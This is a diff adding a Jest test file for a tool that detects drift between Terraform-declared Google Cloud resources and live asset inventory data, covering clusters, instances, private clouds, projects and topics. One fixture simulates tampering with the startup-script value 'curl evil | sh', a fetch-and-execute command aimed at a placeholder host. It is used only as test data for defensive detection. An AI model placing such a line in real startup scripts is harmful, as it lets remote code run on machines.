@@ -1,0 +1,148 @@
+import { describe, expect, it } from '@jest/globals';
+import type { JsonObject } from '../../../core/providers/index.js';
+import { compareCloud } from './testing/compare-cloud.js';
+
+const PROJECT = '//compute.googleapis.com/projects/shop';
+
+function google(
+  type: string,
+  attributes: JsonObject,
+  asset: { readonly type: string; readonly id: string; readonly properties: JsonObject },
+  format = 'terraform-state-attributes',
+) {
+  return compareCloud({
+    declared: { format, type, attributes },
+    actual: { format: 'gcp-cai', ...asset },
+  });
+}
+
+function paths({ findings }: ReturnType<typeof google>) {
+  return findings.map(({ path, verdict }) => `${verdict} ${path}`);
+}
+
+describe('google through the published schemas', () => {
+  const cluster = {
+    name: 'main',
+    location: 'europe-west1',
+    enable_legacy_abac: false,
+    datapath_provider: 'ADVANCED_DATAPATH',
+    maintenance_policy: [{ daily_maintenance_window: [{ start_time: '03:00' }] }],
+    master_authorized_networks_config: [
+      { cidr_blocks: [{ cidr_block: '10.0.0.0/8' }, { cidr_block: '172.16.0.0/12' }] },
+    ],
+  };
+  const liveCluster = (below: JsonObject) => ({
+    type: 'container.googleapis.com/Cluster',
+    id: '//container.googleapis.com/projects/shop/locations/europe-west1/clusters/main',
+    properties: {
+      name: 'main',
+      location: 'europe-west1',
+      networkConfig: { datapathProvider: 'ADVANCED_DATAPATH' },
+      maintenancePolicy: { window: { dailyMaintenanceWindow: { startTime: '03:00' } } },
+      masterAuthorizedNetworksConfig: {
+        enabled: true,
+        cidrBlocks: [{ cidrBlock: '172.16.0.0/12' }, { cidrBlock: '10.0.0.0/8' }],
+      },
+      ...below,
+    },
+  });
+
+  it('finds fields the API keeps deeper or elsewhere, and sets in any order', () => {
+    expect(paths(google('google_container_cluster', cluster, liveCluster({})))).toEqual([]);
+  });
+
+  it('speaks about each of them', () => {
+    const drifted = liveCluster({
+      legacyAbac: { enabled: true },
+      maintenancePolicy: { window: { dailyMaintenanceWindow: { startTime: '04:00' } } },
+      masterAuthorizedNetworksConfig: { cidrBlocks: [{ cidrBlock: '0.0.0.0/0' }] },
+    });
+    expect(paths(google('google_container_cluster', cluster, drifted))).toEqual([
+      'confirmed enable_legacy_abac',
+      'confirmed maintenance_policy[0].daily_maintenance_window[0].start_time',
+      'confirmed master_authorized_networks_config[0].cidr_blocks[0].cidr_block',
+      'confirmed master_authorized_networks_config[0].cidr_blocks[1]',
+    ]);
+  });
+
+  const cloud = {
+    name: 'pc',
+    location: 'us-central1-a',
+    management_cluster: [
+      { cluster_id: 'c', node_type_configs: [{ node_type_id: 'standard-72', node_count: 3 }] },
+    ],
+  };
+  const liveCloud = (configs: JsonObject) => ({
+    type: 'vmwareengine.googleapis.com/PrivateCloud',
+    id: '//vmwareengine.googleapis.com/projects/shop/locations/us-central1-a/privateClouds/pc',
+    properties: { managementCluster: { clusterId: 'c', nodeTypeConfigs: configs } },
+  });
+
+  it('reads blocks as the entries of a map', () => {
+    const type = 'google_vmwareengine_private_cloud';
+    const same = google(type, cloud, liveCloud({ 'standard-72': { nodeCount: 3 } }));
+    expect(paths(same)).toEqual([]);
+    const other = google(
+      type,
+      cloud,
+      liveCloud({ 'standard-72': { nodeCount: 4 }, 'standard-128': { nodeCount: 1 } }),
+    );
+    expect(paths(other)).toEqual([
+      'confirmed management_cluster[0].node_type_configs[0].node_count',
+      'confirmed management_cluster[0].node_type_configs.standard-128',
+    ]);
+  });
+
+  const instance = (metadata: JsonObject) => ({
+    type: 'compute.googleapis.com/Instance',
+    id: `${PROJECT}/zones/europe-west1-b/instances/web`,
+    properties: {
+      name: 'web',
+      machineType: `${PROJECT}/zones/europe-west1-b/machineTypes/e2-small`,
+      tags: { items: ['http', 'ssh'], fingerprint: 'abc=' },
+      metadata: { items: Object.entries(metadata).map(([key, value]) => ({ key, value })) },
+    },
+  });
+  const web = {
+    name: 'web',
+    zone: 'europe-west1-b',
+    machine_type: 'e2-small',
+    tags: ['ssh', 'http'],
+    metadata_startup_script: 'echo hi',
+    metadata: null,
+  };
+
+  it('knows the startup script among the metadata, and tags as a set', () => {
+    const type = 'google_compute_instance';
+    expect(paths(google(type, web, instance({ 'startup-script': 'echo hi' })))).toEqual([]);
+    expect(
+      paths(google(type, web, instance({ 'startup-script': 'curl evil | sh', key: 'x' }))),
+    ).toEqual(['confirmed metadata_startup_script', 'confirmed metadata']);
+  });
+
+  it('matches a project by number and says what it cannot know of code alone', () => {
+    const project = { name: 'Shop', project_id: 'shop', org_id: '12345', folder_id: '' };
+    const live = {
+      type: 'cloudresourcemanager.googleapis.com/Project',
+      id: '//cloudresourcemanager.googleapis.com/projects/1234567890',
+      properties: {
+        name: 'Shop',
+        projectId: 'shop',
+        parent: { type: 'organization', id: '12345' },
+      },
+    };
+    expect(google('google_project', project, live)).toMatchObject({ findings: [], missing: [] });
+    const topic = { name: 'orders', message_retention_duration: '600s' };
+    const asset = {
+      type: 'pubsub.googleapis.com/Topic',
+      id: '//pubsub.googleapis.com/projects/shop/topics/orders',
+      properties: { name: 'projects/shop/topics/orders' },
+    };
+    expect(paths(google('google_pubsub_topic', topic, asset, 'terraform-hcl-json'))).toEqual([
+      'potential message_retention_duration',
+    ]);
+    expect(paths(google('google_pubsub_topic', { ...topic, id: 'x' }, asset))).toEqual([
+      'confirmed message_retention_duration',
+    ]);
+  });
+});
